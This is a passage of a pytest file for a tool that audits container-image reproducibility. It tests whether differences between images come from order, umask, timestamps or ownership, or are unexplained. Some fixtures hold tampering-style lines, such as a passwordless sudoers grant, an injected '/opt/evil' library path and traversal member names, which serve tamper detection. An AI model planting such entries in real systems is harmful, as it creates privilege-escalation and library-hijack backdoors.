"""Two images of which nothing is known: what only looks innocent there is unexplained.

Two runs of one build come of the same lines, so that another order, or another random value, is
just that. Between two existing images somebody may have put it there.
"""

from __future__ import annotations

import base64
import hashlib
import io
import lzma
import stat
import tarfile
import zipfile
from pathlib import Path
from typing import NamedTuple

import pytest
from msgspec.structs import replace

from repaudit.model.difference import Aspect, Difference
from repaudit.model.image import Entry, Kind
from repaudit.oci.changes import Change
from repaudit.stages.attribute import attribute
from repaudit.stages.entries import compare_change
from repaudit.stages.scene import Scene
from tests.images import member, tar
from tests.test_attribute import MOVED, a, contents_of
from tests.test_forensic_cases import of, slugs
from tests.test_forensics_uncovered import case, gzipped, told

UNEXPLAINED = {"unexplained"}
ORDERS = {
    "collation_order_varies_by_locale",
    "random_order_in_output",
    "random_order_of_directory_entries",
}


def differ(left: str, right: str, path: str = "srv/file") -> set[str]:
    """What all forensics say of a file of two existing images."""
    return set(told(left.encode(), right.encode(), path, vary=None))


# --- another order -----------------------------------------------------------------------------


def shuffled(*lines: str) -> tuple[str, str]:
    """Lines, and the same ones with the first at the end: no rule of sorting gives either."""
    return "\n".join(lines) + "\n", "\n".join([*lines[1:], lines[0]]) + "\n"


@pytest.mark.parametrize(
    ("path", "lines"),
    [
        ("srv/listed", ("d.py", "a.py", "c.py", "b.py", "e.py")),
        ("srv/sums", tuple(f"{n}{'a' * 31}  ./{name}" for n, name in enumerate("dacbe"))),
        ("srv/variables", ("D=1", "A=2", "C=3:4", "B=x", "E=/y")),
        ("var/lib/dpkg/info/a.list", ("/.", "/usr", "/bin/d", "/bin/a", "/bin/c")),
        ("srv/a.tar!/listed", ("d", "a", "c", "b", "e")),
    ],
)
def test_the_lines_of_a_listing_may_stand_in_any_order(path: str, lines: tuple[str, ...]):
    assert differ(*shuffled(*lines), path) <= ORDERS


@pytest.mark.parametrize(
    ("path", "lines"),
    [
        ("srv/run", ("#!/bin/sh", "first", "second")),
        ("srv/run", ("umask 077", "touch /secret", "chmod 600 /secret")),
        ("srv/rules", ("deny all", "allow 10.0.0.0/8")),
        ("srv/sudoers", ("ALL ALL=(ALL) ALL", "app ALL=(ALL) NOPASSWD:ALL")),
        ("srv/a.ini", ("[one]", "a=1", "[two]", "b=2")),
        ("srv/settings", ("a=1", "[two]", "b=2")),
        ("srv/server", ("location / {", "deny all;", "}", "allow all;")),
        ("srv/Dockerfile", ("FROM", "RUN")),
        ("srv/requirements.txt", ("b==1", "a==2")),
        ("srv/pins", ("b==1", "a==2")),
        ("srv/.gitignore", ("secret", "public")),
        ("srv/patterns", ("*.key", "!public.key")),
        ("srv/settings", ("a=1", "b=2", "a=3")),
        ("srv/main.py", ("a()", "b()")),
        ("srv/steps", ("b", "  when: never", "a")),
        ("etc/ld.so.conf.d/x.conf", ("/opt/evil", "/usr/lib")),
        ("etc/shells", ("/bin/sh", "/bin/bash")),
        ("srv/a.tar!/etc/ld.so.conf", ("/opt/evil", "/usr/lib")),
    ],
)
def test_where_the_order_decides_it_explains_nothing(path: str, lines: tuple[str, ...]):
    assert differ(*shuffled(*lines), path) == UNEXPLAINED
    # Of two runs of one build it is an order, whatever it is of.
    left, right = shuffled(*lines)
    assert slugs("text", case(left.encode(), right.encode(), path=path)) <= ORDERS


def test_what_stands_between_moved_lines_counts_and_what_is_around_does_not():
    head, end = "made by hand:\n", "the end of it\n"
    left, right = shuffled("c", "a", "b")
    assert differ(head + left + end, head + right + end) <= ORDERS
    assert differ("c\n" + head + "a\nb\n", "b\n" + head + "a\nc\n") == UNEXPLAINED
    dated = "2026-11-22\n" + left + end, "2027-12-27\n" + right + end
    assert differ(*dated) - ORDERS == {"captures_build_date"}
    ruled = "at 2026-11-22\nallow all\nx\ndeny all\n", "at 2027-12-27\ndeny all\nx\nallow all\n"
    assert differ(*ruled) == {"captures_build_date", "unexplained"}


@pytest.mark.parametrize(
    ("left", "right"),
    [
        ("{'a', 'b', 'c'}", "{'c', 'a', 'b'}"),
        ("x = {'a': 1, 'b': (2, 3)}", "x = {'b': (2, 3), 'a': 1}"),
        ('{"a":{"x":1,"y":[1,2]},"b":2}', '{"b":2,"a":{"y":[1,2],"x":1}}'),
        ('{\n  "a": 1,\n  "b": 2\n}', '{\n  "b": 2,\n  "a": 1\n}'),
        ('[{"a": 1, "b": "}"}]', '[{"b": "}", "a": 1}]'),
    ],
)
def test_keys_in_another_order_say_the_same(left: str, right: str):
    assert differ(left, right) == {"random_order_in_output"}
    assert slugs("text", case(left.encode(), right.encode())) == {"random_order_in_output"}


@pytest.mark.parametrize(
    ("left", "right"),
    [
        ('{"a":1,"b":2}', '{"a":2,"b":1}'),
        ("{'a': 1, 'b': 2}", "{'a': 2, 'b': 1}"),
        ('{"a":{"x":1,"y":2},"b":{"x":3,"y":4}}', '{"a":{"x":1,"y":4},"b":{"x":3,"y":2}}'),
        ('{\n  "a": 1,\n  "b": 2\n}', '{\n  "a": 2,\n  "b": 1\n}'),
        ("pip install a==1 b==2", "pip install a==2 b==1"),
    ],
)
def test_values_that_were_exchanged_are_no_order_at_all(left: str, right: str):
    assert differ(left, right) == UNEXPLAINED
    assert slugs("text", case(left.encode(), right.encode())) == UNEXPLAINED


@pytest.mark.parametrize(
    ("left", "right"),
    [
        ("cp a b", "cp b a"),
        ("PATH=/usr/bin:/opt/bin", "PATH=/opt/bin:/usr/bin"),
        ('["cp", "a", "b"]', '["cp", "b", "a"]'),
        ("int of[] = {1, 2, 3};", "int of[] = {3, 1, 2};"),
        ('char *of[] = {"a", "b"};', 'char *of[] = {"b", "a"};'),
        ('{"run": ["cp", "a", "b"]}', '{"run": ["cp", "b", "a"]}'),
        ('{"a":1,"a":2}', '{"a":2,"a":1}'),
        ('{"a":1, "b":2}', '{"a":1,"b":2}'),
    ],
)
def test_words_of_one_line_are_no_listing(left: str, right: str):
    assert differ(left, right) == UNEXPLAINED


@pytest.mark.parametrize(
    ("decides", "vary", "wanted"),
    [
        (None, None, {"random_order_of_layer_entries"}),
        ("the last of several hard links says what mode it has", None, set()),
        (
            "the last of several hard links says what mode it has",
            ("file_order",),
            {"random_order_of_layer_entries"},
        ),
    ],
)
def test_an_order_of_entries_that_decides_something_is_unexplained(decides, vary, wanted):
    asked = of(Aspect.ORDER, "a", "b", "", vary=vary)
    order = replace(asked, difference=replace(asked.difference, detail=decides))
    assert slugs("aspect", order) == wanted


# --- modes and owners --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("left", "right", "blamed"),
    [
        ("0644", "0664", True),
        ("0755", "0775", True),
        ("0755", "0700", True),
        ("0644", "0600", True),
        ("0750", "0755", True),
        ("0644", "0666", False),  # everyone may write
        ("0755", "0777", False),
        ("0644", "0645", False),  # from 0666 no umask leaves a right to execute
        ("0644", "0655", False),
        ("0755", "0744", False),
        ("0755", "0711", False),
        ("0644", "0755", False),
        ("4755", "4775", False),
        ("0755", "4755", False),
        ("0755", "2755", False),
        ("0777", "1777", False),
        ("0664", "0646", False),
    ],
)
def test_modes_are_of_a_umask_if_usual_ones_make_both_of_one(left: str, right: str, blamed: bool):
    for sides in ((left, right), (right, left)):
        several = replace(of(Aspect.MODE, *sides, vary=None), alike=3)
        assert slugs("aspect", several) == ({"different_due_to_umask"} if blamed else set())


@pytest.mark.parametrize(
    ("left", "right", "path", "alike", "blamed"),
    [
        ("0600", "0644", "srv/a", 3, True),
        ("0600", "0644", "srv/a", 2, False),
        ("0700", "0755", "srv/a", 1, False),
        ("0644", "0664", "srv/a", 1, True),
        ("0640", "0644", "etc/shadow", 9, False),
        ("0640", "0644", "etc/gshadow-", 9, False),
        ("0600", "0644", "root/.ssh/config", 9, False),
        ("0600", "0644", "etc/ssl/private/server.pem", 9, False),
        ("0600", "0644", "srv/session.key", 9, False),
        ("0600", "0644", "srv/credentials.json", 9, False),
        ("0600", "0644", "srv/api-token", 9, False),
        ("0600", "0644", "srv/.netrc", 9, False),
        ("0600", "0644", "srv/.env.production", 9, False),
        ("0600", "0644", "srv/kubeconfig", 9, False),
        ("0600", "0644", "srv/tls.pem", 9, False),
        ("0644", "0664", "srv/tls.pem", 9, True),
        ("0600", "0644", "srv/tokenizer.py", 9, True),
        ("0600", "0644", "srv/author", 9, True),
        ("0600", "0644", "etc/keymap", 9, True),
        ("0600", "0644", "srv/monkeys/a", 9, True),
    ],
)
def test_who_may_read_few_files_or_a_secret_is_no_matter_of_a_umask(
    left: str, right: str, path: str, alike: int, blamed: bool
):
    asked = replace(of(Aspect.MODE, left, right, path, vary=None), alike=alike)
    assert slugs("aspect", asked) == ({"different_due_to_umask"} if blamed else set())


def told_of_modes(*modes: tuple[str, str], detail: str | None = None) -> set[str]:
    some = [
        Difference(
            layer=0, path=f"srv/{n}", aspect=Aspect.MODE, left=one, right=other, detail=detail
        )
        for n, (one, other) in enumerate(modes)
    ]
    return {found.cause.slug for found in attribute(some, {}, Scene())}


def test_a_umask_that_takes_reading_takes_it_from_programs_and_folders_too():
    """A program that asks for 0600 makes 0600 under any umask, whatever the file is called."""
    file, program = ("0600", "0644"), ("0700", "0755")
    assert told_of_modes(program, file, file) == {"different_due_to_umask"}
    assert told_of_modes(program, file) == UNEXPLAINED
    assert told_of_modes(*[file] * 6) == UNEXPLAINED
    assert told_of_modes(*[("0644", "0664")] * 6) == {"different_due_to_umask"}


def test_nor_in_an_archive_what_others_of_its_files_have():
    def told_of(*modes: tuple[str, int, int]) -> set[str]:
        sides = [
            tar(*(member(name.encode(), mode=mode[side]) for name, *mode in modes))
            for side in (0, 1)
        ]
        return slugs("tar", case(*sides, vary=None))

    program, files = ("p", 0o755, 0o700), [("a", 0o644, 0o600), ("b", 0o644, 0o600)]
    assert told_of(program, *files) == {"different_due_to_umask"}
    assert told_of(*files, ("c", 0o644, 0o600)) == UNEXPLAINED
    assert told_of(program, *files, ("c", 0o644, 0o644)) == UNEXPLAINED
    assert told_of(program, *files, ("c", 0o755, 0o755)) == {"different_due_to_umask"}
    assert told_of(("a", 0o644, 0o664), ("c", 0o644, 0o644)) == {"different_due_to_umask"}
    assert told_of(program, *files, ("./root/.ssh/id_rsa", 0o644, 0o600)) == UNEXPLAINED
    assert told_of(program, *files, ("root/.ssh/id_rsa", 0o600, 0o600)) == {
        "different_due_to_umask"
    }


def mode_change(left: Entry, right: Entry, kept: int = 0) -> set[str]:
    (one,) = compare_change(0, Change(path=left.path, left=left, right=right), kept)
    three = [replace(one, path=path) for path in (one.path, "srv/2", "srv/3")]
    return {f.cause.slug for f in attribute(three, {}, Scene()) if one in f.differences}


def test_a_file_that_another_group_may_write_is_of_no_umask_where_it_decides():
    def job(path: str, uid: int, gid: int) -> set[str]:
        one = replace(entry(Kind.FILE, 0o644), path=path, uid=uid, gid=gid)
        return mode_change(one, replace(one, mode=0o664))

    assert job("etc/cron.d/x", 0, 1000) == job("usr/bin/x", 1000, 33) == UNEXPLAINED
    assert job("etc/cron.d/x", 0, 0) == {"different_due_to_umask"}
    assert job("srv/app/x", 0, 1000) == {"different_due_to_umask"}
    assert job("home/a/x", 1000, 100) == UNEXPLAINED  # a home is read by its account
    assert job("home/a/x", 1000, 1000) == {"different_due_to_umask"}


def test_no_umask_takes_from_some_files_what_others_of_their_layer_have():
    program = replace(entry(Kind.FILE, 0o644), path="srv/app", mode=0o755)
    without = replace(program, mode=0o700)
    assert mode_change(program, without) == {"different_due_to_umask"}
    assert mode_change(program, without, kept=0o044) == UNEXPLAINED
    assert mode_change(program, replace(program, mode=0o775), 0o044) == {"different_due_to_umask"}


@pytest.mark.parametrize(
    ("path", "mode", "wanted"),
    [
        ("srv/app/x", 0o644, {"owner_follows_build_user"}),
        ("usr/src/app/x", 0o755, {"owner_follows_build_user"}),
        ("home/build", 0o755, UNEXPLAINED),
        (".", 0o755, UNEXPLAINED),  # and so another etc in it
        ("var", 0o755, UNEXPLAINED),
        ("var/www/x", 0o644, {"owner_follows_build_user"}),
        ("etc/sudoers", 0o644, UNEXPLAINED),
        ("usr/bin/x", 0o755, UNEXPLAINED),
        ("srv/app/x", 0o4755, UNEXPLAINED),  # who runs it is its owner
        ("srv/app/x", 0o2755, UNEXPLAINED),
        ("srv/app/x", 0o640, UNEXPLAINED),  # and here, who may read it
        ("srv/.ssh/authorized_keys", 0o644, UNEXPLAINED),
    ],
)
def test_the_build_user_has_no_files_that_decide_who_may_do_what(
    path: str, mode: int, wanted: set[str]
):
    root = replace(entry(Kind.FILE, 0o644), path=path, mode=mode)
    user = replace(root, uid=1000, gid=1000)
    for sides in ((root, user), (user, root)):
        (one,) = compare_change(0, Change(path=path, left=sides[0], right=sides[1]))
        both = [one, replace(one, path="srv/other", detail=None)]
        told = {f.cause.slug for f in attribute(both, {}, Scene()) if one in f.differences}
        assert told == wanted


@pytest.mark.parametrize(
    ("left", "right", "wanted"),
    [
        ("security.selinux=1", "security.selinux=2", {"xattrs_follow_filesystem"}),
        ("security.selinux=1", "security.selinux=1 system.posix_acl_access=2", set()),
        ("security.selinux=1", "security.selinux=2 user.containers.override_stat=3", set()),
        ("security.selinux=1", "security.selinux=1 trusted.overlay.redirect=2", set()),
        ("security.SMACK64=1", "security.SMACK64EXEC=1", set()),
        ("security.ima=1", "security.ima=2", set()),
    ],
)
def test_of_two_images_a_host_gives_files_labels_and_nothing_else(
    left: str, right: str, wanted: set[str]
):
    assert slugs("aspect", of(Aspect.XATTR, left, right, vary=None)) == wanted


def test_one_owner_alone_is_not_who_builds():
    def told_of(*owners: tuple[str, str, int]) -> set[str]:
        some = [
            Difference(layer=layer, path=f"srv/{n}", aspect=Aspect.OWNER, left=one, right=other)
            for n, (one, other, layer) in enumerate(owners)
        ]
        return {finding.cause.slug for finding in attribute(some, {}, Scene())}

    person = ("0:0", "1000:1000")
    assert told_of((*person, 0), (*person, 0)) == {"owner_follows_build_user"}
    assert told_of((*person, 0)) == told_of((*person, 0), (*person, 1)) == UNEXPLAINED
    assert told_of((*person, 0), ("1000:1000", "0:0", 0)) == UNEXPLAINED


# --- what only looks random, or like a time ----------------------------------------------------

PEM = "-----BEGIN {0}-----\n{1}\n-----END {0}-----\n"


@pytest.mark.parametrize(
    ("left", "right"),
    [
        ("ssh-rsa AAAAC3NzaC1lZDI1NTE5AAAAIGood0key", "ssh-rsa AAAAC3NzaC1lZDI1NTE5BBBBJEvil9two"),
        (PEM.format("CERTIFICATE", "AAAA"), PEM.format("CERTIFICATE", "BBBB")),
        (PEM.format("PUBLIC KEY", "AAAA"), PEM.format("PUBLIC KEY", "BBBB")),
        (PEM.format("PRIVATE KEY", "AAAA"), PEM.format("PRIVATE KEY", "BBBB")),
        ("token=9f8e7d6c5b4a", "token=0a1b2c3d4e5f"),
        ("key kD93jfOsl20Dk1mX", "key Zp02mQwe8TyUi4vB"),
        ("rev " + "a1" * 20, "rev " + "b2" * 20),
        ("FROM a@sha256:" + "a1" * 32, "FROM a@sha256:" + "b2" * 32),
        ("a:$6$abcdefgh$Zk3/uP.q0vXw1yR5tL8mNbVc:1", "a:$6$hgfedcba$pL8m.NbVcDx2Zk3/uP0vXw1y:1"),
        ("listen 2022", "listen 2049"),
        ("limit 1700000000", "limit 1710000000"),
        ("1700000000", "1710000000"),
        ("ca-certificates 20230311", "ca-certificates 20240203"),
        ("certifi==2023.11.17", "certifi==2024.2.2"),
        ("version 2023.11.17", "version 2024.02.02"),
        ("ratio 08:30", "ratio 12:45"),
        ("keepalive_timeout 65 s", "keepalive_timeout 99 s"),
        ("update 20230311", "update 20240203"),
        ("deb https://m/20230101T000000Z a main", "deb https://m/20240101T000000Z a main"),
        ("deb https://m/2023-01-01/ a main", "deb https://m/2024-01-01/ a main"),
        ("wget x/2023-01-01/a", "wget x/2024-01-01/a"),
        ("apt-get install --date 2023-01-01", "apt-get install --date 2024-01-01"),
        ("host=10.0.2023-01-01.evil", "host=10.0.2024-01-01.evil"),
        ("expires=2023-01-01", "expires=2024-01-01"),
        ("Valid-Until: 2023-01-01 10:00", "Valid-Until: 2024-01-01 10:00"),
        ("notAfter=Jan  1 00:00:00 2023 GMT", "notAfter=Jan  1 00:00:00 2024 GMT"),
        ("built 2023-01-01", "built 2099-01-01"),
        ("built 2023-01-01 10:00", "built 2099-01-01 10:00"),
        ("run=/tmp/aaaaaaaaaa", "run=/tmp/bbbbbbbbbb"),
        ("pkg-1\npkg-2\npkg-3\npkg-4\npkg-5 x\n", "pkg-3\npkg-5 x\npkg-1\npkg-4\npkg-2\n"),
    ],
)  # fmt: skip
def test_in_two_images_a_look_alone_explains_nothing(left: str, right: str):
    assert differ(left, right) == UNEXPLAINED


@pytest.mark.parametrize(
    ("left", "right", "wanted"),
    [
        ("BUILD_DATE=1700000000", "BUILD_DATE=1710000000", "captures_build_date"),
        ("2023-01-01T00:00:00Z", "2023-01-02T00:00:00Z", "captures_build_date"),
        ("made 2023-01-01T00:00:00", "made 2023-01-01T02:00:00", "captures_timezone"),
        ("made 2023-01-01.", "made 2024-01-01.", "captures_build_date"),
        ("run=/tmp/tmpabcd1234", "run=/tmp/tmpefgh5678", "captures_temporary_path"),
        ("built 20230311", "built 20240203", "captures_build_date"),
        ("Date: 2023.11.17", "Date: 2024.02.02", "captures_build_date"),
        ("(c) 2022 me", "(c) 2023 me", "captures_build_date"),
        ("at 2023-11-17 08:30", "at 2024-02-02 12:45", "captures_build_date"),
        ("20231117083000", "20240202124500", "captures_build_date"),
        ("took 37 ms", "took 41 ms", "captures_execution_time"),
        ("in /tmp/tmp.AbCdEf1234/x", "in /tmp/tmp.ZyXwVu9876/x", "captures_temporary_path"),
        (
            "id 3f2504e0-4f89-41d3-9a0c-0305e82c3301",
            "id 9b1deb4d-3b7d-4bad-9bdd-2b0d7b3dcb6d",
            "embeds_random_value",
        ),
    ],
)
def test_what_says_what_it_is_is_known_there_too(left: str, right: str, wanted: str):
    assert differ(left, right) == {wanted}


def test_of_a_key_it_is_said_that_it_may_be_somebodys():
    sides = [PEM.format("PRIVATE KEY", letter * 4).encode() for letter in "AB"]
    assert "somebody put there" in told(*sides, vary=None)["unexplained"]
    assert told(*sides).keys() == {"embeds_random_key"}  # two runs of one build made them


@pytest.mark.parametrize("form", ["AGE-SECRET-KEY-1{}", PEM.format("PRIVATE KEY", "{}")])
def test_what_is_not_shown_of_a_key_is_told_apart(form: str):
    one, other = (form.format(letter * 58) for letter in "AB")

    for left, right in ((one, other), (f"{one}\n{other}\n{one}", f"{one}\n{other}\n{other}")):
        assert set(told(left.encode(), right.encode(), vary=None)) == {"unexplained"}
        (cause,) = told(left.encode(), right.encode())
        assert cause.startswith("embeds_random_")
    assert differ(one, "(not shown)") == {"unexplained"}


# --- digests -----------------------------------------------------------------------------------


def sums(name: str, text: bytes) -> str:
    return getattr(hashlib, name)(text).hexdigest()


def beside(folder: Path, lists: tuple[str, str]) -> dict[str, set[str]]:
    """The causes of each file of two images: one holds `one` and `two`, another one `lists`."""
    contents, some = {}, []
    for number, sides in enumerate([(b"one 1\n", b"two 2\n"), [x.encode() for x in lists]]):
        home = folder / str(number)
        home.mkdir()
        digests = f"sha256:{number}l", f"sha256:{number}r"
        contents |= contents_of(home, *sides, digests)
        content = Difference(
            layer=0, path=f"srv/{number}", aspect=Aspect.CONTENT, left=digests[0], right=digests[1]
        )
        some.append(content)
    told: dict[str, set[str]] = {}
    for finding in attribute(some, contents, Scene()):
        for one in finding.differences:
            told.setdefault(one.path, set()).add(finding.cause.slug)
    return told


@pytest.mark.parametrize("algorithm", ["md5", "sha1", "sha256", "sha512"])
def test_a_digest_is_explained_by_the_file_that_it_is_of(tmp_path: Path, algorithm: str):
    one, two = sums(algorithm, b"one 1\n"), sums(algorithm, b"two 2\n")
    line = "date 2026-11-{} {}  srv/0\n"
    found = beside(tmp_path, (line.format(11, one), line.format(12, two)))
    assert found["srv/1"] == {"captures_build_date", "checksum_of_varying_file"}


@pytest.mark.parametrize(
    ("left", "right"),
    [
        (sums("sha256", b"one 1\n"), sums("sha256", b"three\n")),
        (sums("sha256", b"none\n"), sums("sha256", b"two 2\n")),
        (sums("sha256", b"two 2\n"), sums("sha256", b"one 1\n")),
        (sums("sha256", b"x"), sums("sha256", b"y")),
    ],
)
def test_a_digest_of_no_file_that_is_there_is_unexplained(tmp_path: Path, left: str, right: str):
    line = "date 2026-11-{} sha256={}\n"
    sides = line.format(11, left), line.format(12, right)
    assert beside(tmp_path, sides)["srv/1"] == {"captures_build_date", "unexplained"}


def test_a_list_in_an_archive_may_be_of_its_members():
    def zipped(day: int, member: bytes, of: bytes) -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            archive.writestr(zipfile.ZipInfo("a"), member)
            digest = base64.b64encode(hashlib.sha256(of).digest()).decode()
            text = f"Date: 2026-11-{day}\nSHA-256-Digest: {digest}\n"
            archive.writestr(zipfile.ZipInfo("META-INF/MANIFEST.MF"), text)
        return out.getvalue()

    days = [b"built 2026-11-11", b"built 2026-11-12"]
    one, other = (zipped(n, day, day) for n, day in zip((11, 12), days, strict=True))
    dated = {"captures_build_date", "checksum_of_varying_file"}
    assert told(one, other, "x.jar", vary=None).keys() == dated
    evil = zipped(12, days[1], b"evil")
    assert "unexplained" in told(one, evil, "x.jar", vary=None)


def test_no_collation_makes_any_order():
    names = [f"pkg-{n}" for n in range(9)]
    mixed = [names[n] for n in (3, 1, 4, 0, 5, 8, 2, 6, 7)]
    found = differ("\n".join(names), "\n".join(mixed))
    assert found == {"random_order_in_output"}
    assert differ("B\nC\na\nb", "a\nB\nb\nC") == {"collation_order_varies_by_locale"}


# --- archives ----------------------------------------------------------------------------------


def packed(*members: tuple[str, bytes, int]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data, method in members:
            archive.writestr(zipfile.ZipInfo(name), data, method)
    return out.getvalue()


def test_a_loader_asks_how_modules_are_packed_and_in_which_order():
    a, b = (f"BOOT-INF/lib/{name}.jar" for name in "ab")
    module, stored, deflated = bytes(99), zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED
    one = packed((a, module, stored), (b, module, stored))
    for other in (
        packed((a, module, deflated), (b, module, stored)),
        packed((b, module, stored), (a, module, stored)),
    ):
        assert "unexplained" in told(one, other, "app.jar", vary=None)
        assert "unexplained" not in told(one, other, "app.jar")
    texts = [(name, b"x", stored) for name in ("a", "b")]
    listed = told(packed(*texts), packed(*texts[::-1]), "app.jar", vary=None)
    assert listed.keys() == {"random_order_in_zip"}


def test_a_flag_of_a_zip_may_say_what_a_member_is_called():
    def named(level: int, *, utf_8: bool) -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
            archive.writestr("caf\u00e9.sh", b"abcabcabdabcab" * 300)
        data = bytearray(out.getvalue())
        for magic, at in ((b"PK\3\4", 7), (b"PK\1\2", 9)):
            data[data.find(magic) + at] = 8 * utf_8
            data[data.find(magic) + at - 1] = {1: 6, 9: 2}[level]  # fast, or thorough
        return bytes(data)

    one, other, evil = named(1, utf_8=True), named(9, utf_8=True), named(9, utf_8=False)
    assert told(one, other, "x.zip", vary=None).keys() == {"compressor_differs"}
    assert "flags" in told(one, evil, "x.zip", vary=None)["unexplained"]
    assert told(one, evil, "x.zip").keys() == {"compressor_differs"}


@pytest.mark.parametrize(
    ("left", "right", "wanted"),
    [
        (b"readme", b".bashrc", {"unexplained"}),
        (b"a-2026-11-22.conf", b"a-2026-11-23.conf", {"unexplained"}),
        (b"", b"other", {"unexplained"}),
        (b"", b"file", {"file_name_in_gzip_headers"}),
        (b"file", b"", {"file_name_in_gzip_headers"}),
    ],
)
def test_a_name_in_a_gzip_header_is_written_to(left: bytes, right: bytes, wanted: set[str]):
    pair = [gzipped(7, name=name) for name in (left, right)]
    assert told(*pair, "srv/file.gz", vary=None).keys() == wanted
    assert told(*pair, "srv/file.gz").keys() == {"file_name_in_gzip_headers"}


@pytest.mark.parametrize(
    ("mode", "slug"),
    [(0o644, "users_and_groups"), (0o4755, "unexplained"), (0o2755, "unexplained")],
)
@pytest.mark.parametrize("form", ["tarball", "cpio_archive"])
def test_the_owner_of_a_setuid_member_is_as_whom_it_runs(form: str, mode: int, slug: str):
    def of(owner: int) -> bytes:
        if form == "cpio_archive":
            return archived(Member("app/sh2", b"", mode, owner))
        out = io.BytesIO()
        with tarfile.open(fileobj=out, mode="w") as archive:
            info = tarfile.TarInfo("app/sh2")
            info.mode, info.uid, info.gid = mode, owner, owner
            archive.addfile(info)
        return out.getvalue()

    pair = of(1000), of(0)
    assert {one.removesuffix(f"_in_{form}") for one in told(*pair, vary=None)} == {slug}
    assert told(*pair).keys() == {f"users_and_groups_in_{form}"}


def test_who_packed_an_archive_owns_all_of_it():
    def of(*owners: int, mode: int = 0o644) -> bytes:
        return archived(*(Member(f"{n}", b"", mode, owner) for n, owner in enumerate(owners)))

    known = {"users_and_groups_in_cpio_archive"}
    for left, right in (((0, 0), (1000, 1000)), ((0, 7), (1000, 7))):
        assert told(of(*left), of(*right), vary=None).keys() == known
    for left, right in (((0, 0), (1000, 0)), ((1000, 0), (0, 0)), ((5, 6), (6, 5))):
        assert told(of(*left), of(*right), vary=None).keys() == UNEXPLAINED
    assert told(of(0, 0, mode=0o600), of(9, 9, mode=0o600), vary=None).keys() == UNEXPLAINED
    assert told(of(0, 0), of(1000, 0)).keys() == known  # two runs of one build


@pytest.mark.parametrize(
    ("name", "known"),
    [
        ("app/x", True),
        ("etc/sudoers", False),
        ("./usr/bin/x", False),
        ("/a/../bin/sh", False),
        ("rootfs/etc/sudoers", False),
        ("app/sketch/x", True),
    ],
)
def test_who_packed_an_archive_owns_no_part_of_a_system(name: str, known: bool):
    pair = [archived(Member(name, b"", 0o755, owner)) for owner in (0, 1000)]
    slug = "users_and_groups_in_cpio_archive"
    assert told(*pair, vary=None).keys() == ({slug} if known else UNEXPLAINED)
    assert told(*pair).keys() == {slug}


@pytest.mark.parametrize(
    ("name", "group", "known"),
    [("etc/cron.d/x", 33, False), ("etc/cron.d/x", 0, True), ("app/x", 33, True)],
)
def test_what_another_group_may_write_in_an_archive_is_of_no_umask_where_it_decides(
    name: str, group: int, known: bool
):
    def of(mode: int) -> bytes:
        out = io.BytesIO()
        with tarfile.open(fileobj=out, mode="w") as archive:
            info = tarfile.TarInfo(name)
            info.mode, info.gid = mode, group
            archive.addfile(info)
        return out.getvalue()

    wanted = {"different_due_to_umask"} if known else UNEXPLAINED
    assert told(of(0o644), of(0o664), vary=None).keys() == wanted


def test_the_manifest_of_a_jar_stands_at_first():
    text = "Manifest-Version: 1.0\n"
    some = [("META-INF/MANIFEST.MF", text.encode(), 0), *((n, b"x", 0) for n in "abc")]
    one, other = packed(*some), packed(*some[:2], *some[:1:-1])
    assert told(one, other, "x.jar", vary=None).keys() == {"random_order_in_zip"}
    last = packed(*some[1:], some[0])
    assert "manifest" in told(one, last, "x.jar", vary=None)["unexplained"]
    assert "unexplained" not in told(one, last, "x.jar")


class Member(NamedTuple):
    """One of a cpio archive, in `newc` form."""

    name: str
    data: bytes = b""
    mode: int = 0o644
    owner: int = 0
    inode: int = 0
    links: int = 1


def archived(*members: Member) -> bytes:
    out = b""
    for number, one in enumerate((*members, Member("TRAILER!!!", mode=0)), 1):
        mode = one.mode if one.mode > 0o7777 or not one.mode else one.mode | stat.S_IFREG
        fields = (one.inode or number, mode, one.owner, one.owner, one.links, 0, len(one.data))
        out += b"070701" + b"".join(
            b"%08X" % n for n in (*fields, 8, 1, 0, 0, len(one.name) + 1, 0)
        )
        out += one.name.encode() + b"\0"
        out += bytes(-len(out) % 4) + one.data
        out += bytes(-len(out) % 4)
    return out


ORDERS_OF_MEMBERS = (
    (("b", "a", "c/x"), None),
    (("./b", "a", "./c/x"), None),
    (("./x", "x"), "what x is"),
    (("c//x", "a", "c/x"), "what c/x is"),
    (("/x", "a", "x"), "what x is"),
    (("c/x", "c>d"), "what c is"),
    (("c>d", "a", "c/x"), "what c is"),
    (("x", "y/../x"), "do not agree"),
)


def links_of(*names: str) -> list[tuple[str, str]]:
    """Names of members, each with what it leads to: `c>d` is a symbolic link."""
    return [(name, target) for name, _, target in (one.partition(">") for one in names)]


def in_tar(*names: str) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, target in links_of(*names):
            info = tarfile.TarInfo(name)
            info.type, info.linkname = (tarfile.SYMTYPE, target) if target else (b"0", "")
            info.size = 0 if target else len(name)
            archive.addfile(info, io.BytesIO(name.encode()))
    return out.getvalue()


def in_zip(*names: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, target in links_of(*names):
            info = zipfile.ZipInfo(name)
            info.external_attr = (stat.S_IFLNK if target else stat.S_IFREG) << 16
            archive.writestr(info, target or name)
    return out.getvalue()


def in_cpio(*names: str) -> bytes:
    return archived(
        *(
            Member(name, (target or name).encode(), stat.S_IFLNK if target else stat.S_IFREG)
            for name, target in links_of(*names)
        )
    )


@pytest.mark.parametrize("pack", [in_tar, in_zip, in_cpio])
@pytest.mark.parametrize(("names", "decided"), ORDERS_OF_MEMBERS)
def test_an_order_of_members_passes_where_it_decides_nothing(pack, names, decided):
    one, other = pack(*names), pack(*names[::-1])
    found = told(one, other, "srv/packed", vary=None)
    orders = {slug for slug in found if slug.startswith(("random_order", "collation"))}
    assert bool(orders) is (decided is None)
    assert (decided or "nothing") in found.get("unexplained", "nothing")
    assert "unexplained" not in told(one, other, "srv/packed")  # two runs of one build


def test_of_names_that_unzip_makes_one_the_order_decides():
    one, other = in_zip("c\\x", "c/x"), in_zip("c/x", "c\\x")
    assert "what c/x is" in told(one, other, "x.zip", vary=None)["unexplained"]
    one, other = in_tar("c\\x", "c/x"), in_tar("c/x", "c\\x")
